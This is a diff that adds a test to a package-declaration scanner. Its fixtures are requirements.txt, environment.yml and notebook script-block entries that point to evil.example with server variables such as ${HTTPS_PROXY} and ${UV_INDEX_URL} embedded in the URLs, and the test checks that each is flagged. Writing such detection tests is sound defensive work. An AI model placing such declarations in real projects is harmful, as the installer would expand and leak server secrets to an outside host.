@@ -79,6 +79,26 @@ describe('the packages of a folder', () => {
     });
   });
 
+  it('name no variables of the server, which uv would insert', async () => {
+    const evil = 'x @ https://evil.example/${HTTPS_PROXY}/x-1-py3-none-any.whl';
+    const found = await declared({
+      'a/requirements.txt': 'numpy\n--index-url https://evil.example/${UV_\\\nINDEX_URL}\n',
+      'a/s.ipynb': plain,
+      'b/environment.yml': `channels: [conda-forge]\ndependencies: [{pip: ["${evil}"]}]\n`,
+      'b/s.ipynb': plain,
+      'c.ipynb': notebookText([{ code: `# /// script\n# dependencies = ["${evil}"]\n# ///\nx = 1` }]),
+    });
+    for (const [name, where] of [
+      ['a/s', 'a/requirements.txt, line 2'],
+      ['b/s', 'b/environment.yml, line 1'],
+      ['c', 'the block “# /// script”'],
+    ] as const)
+      expect(found[name]).toMatchObject({
+        what: expect.stringMatching(/^It has \$\{\w+\}, a variable of the server/),
+        where,
+      });
+  });
+
   it('include other files, and name wheels and folders of wheels by their place', async () => {
     const { directory, source } = await sourceOf({
       'base/common.txt': 'requests\n--find-links wheels\n',
